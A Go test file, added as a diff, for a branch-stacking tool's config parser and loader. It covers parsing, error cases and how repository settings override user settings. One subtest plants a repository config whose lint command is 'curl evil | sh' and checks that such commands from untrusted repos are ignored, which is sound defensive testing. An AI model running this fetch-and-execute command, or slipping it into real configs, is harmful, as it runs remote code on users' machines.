@@ -0,0 +1,127 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestParse(t *testing.T) {
+	values, err := Parse(`# Team defaults
+baseBranch = "develop"  # not main
+pushStrategy = 'force'
+ui.spinnerFrames = ". .. \"...\""
+
+[sync]
+updateRefs = true
+ciTimeout = "10m"
+
+[sizeGuard]
+maxLines = 1_000
+`)
+
+	assert.NoError(t, err)
+	assert.Equal(t, map[string]string{
+		"stack.basebranch":         "develop",
+		"stack.pushstrategy":       "force",
+		"stack.sync.updaterefs":    "true",
+		"stack.sync.citimeout":     "10m",
+		"stack.sizeguard.maxlines": "1000",
+		"stack.ui.spinnerframes":   `. .. "..."`,
+	}, values)
+}
+
+func TestParseErrors(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+	}{
+		{"unquoted string", "baseBranch = develop"},
+		{"array", "cleanIgnore = [\"a\"]"},
+		{"multi-line string", "prTemplate = \"\"\""},
+		{"unterminated string", `baseBranch = "develop`},
+		{"missing value", "baseBranch ="},
+		{"no equals sign", "baseBranch"},
+		{"quoted key", `"baseBranch" = "develop"`},
+		{"duplicate key", "[sync]\nupdateRefs = true\nupdateRefs = false"},
+		{"array of tables", "[[sync]]"},
+		{"trailing garbage", `baseBranch = "develop" main`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := Parse(tt.input)
+			assert.Error(t, err)
+		})
+	}
+}
+
+func TestLoad(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	userFile := filepath.Join(home, "stackinator", "config.toml")
+	assert.NoError(t, os.MkdirAll(filepath.Dir(userFile), 0o755))
+	assert.NoError(t, os.WriteFile(userFile, []byte("baseBranch = \"main\"\n[ui]\ntheme = \"minimal\"\n"), 0o644))
+
+	t.Run("repo file wins over the user file", func(t *testing.T) {
+		repo := t.TempDir()
+		assert.NoError(t, os.WriteFile(filepath.Join(repo, RepoFile), []byte("baseBranch = \"develop\"\n"), 0o644))
+
+		settings, err := Load(repo)
+
+		assert.NoError(t, err)
+		value, ok := settings.Get("stack.baseBranch")
+		assert.True(t, ok)
+		assert.Equal(t, "develop", value)
+		assert.Equal(t, filepath.Join(repo, RepoFile), settings.Source("stack.baseBranch"))
+		value, _ = settings.Get("stack.ui.theme")
+		assert.Equal(t, "minimal", value)
+		assert.Equal(t, userFile, settings.Source("stack.ui.theme"))
+		_, ok = settings.Get("stack.prScope")
+		assert.False(t, ok)
+	})
+
+	t.Run("repo file can't set commands, remotes or state", func(t *testing.T) {
+		repo := t.TempDir()
+		content := "pushStrategy = \"force\"\nremote = \"evil\"\nonboarded = true\n[commitLint]\ncommand = \"curl evil | sh\"\nmode = \"block\"\n"
+		assert.NoError(t, os.WriteFile(filepath.Join(repo, RepoFile), []byte(content), 0o644))
+		assert.NoError(t, os.WriteFile(userFile, []byte("[commitLint]\ncommand = \"make lint\"\n"), 0o644))
+		defer os.WriteFile(userFile, []byte("baseBranch = \"main\"\n[ui]\ntheme = \"minimal\"\n"), 0o644)
+
+		settings, err := Load(repo)
+
+		assert.NoError(t, err)
+		value, _ := settings.Get("stack.pushStrategy")
+		assert.Equal(t, "force", value)
+		value, _ = settings.Get("stack.commitLint.mode")
+		assert.Equal(t, "block", value)
+		value, _ = settings.Get("stack.commitLint.command")
+		assert.Equal(t, "make lint", value)
+		_, ok := settings.Get("stack.remote")
+		assert.False(t, ok)
+		_, ok = settings.Get("stack.onboarded")
+		assert.False(t, ok)
+		assert.Equal(t, []string{"stack.commitlint.command", "stack.onboarded", "stack.remote"}, settings.Ignored())
+	})
+
+	t.Run("a broken file is skipped", func(t *testing.T) {
+		repo := t.TempDir()
+		assert.NoError(t, os.WriteFile(filepath.Join(repo, RepoFile), []byte("baseBranch = develop\n"), 0o644))
+
+		settings, err := Load(repo)
+
+		assert.ErrorContains(t, err, RepoFile)
+		value, _ := settings.Get("stack.baseBranch")
+		assert.Equal(t, "main", value)
+	})
+
+	t.Run("bare repository", func(t *testing.T) {
+		settings, err := Load("")
+
+		assert.NoError(t, err)
+		value, _ := settings.Get("stack.ui.theme")
+		assert.Equal(t, "minimal", value)
+	})
+}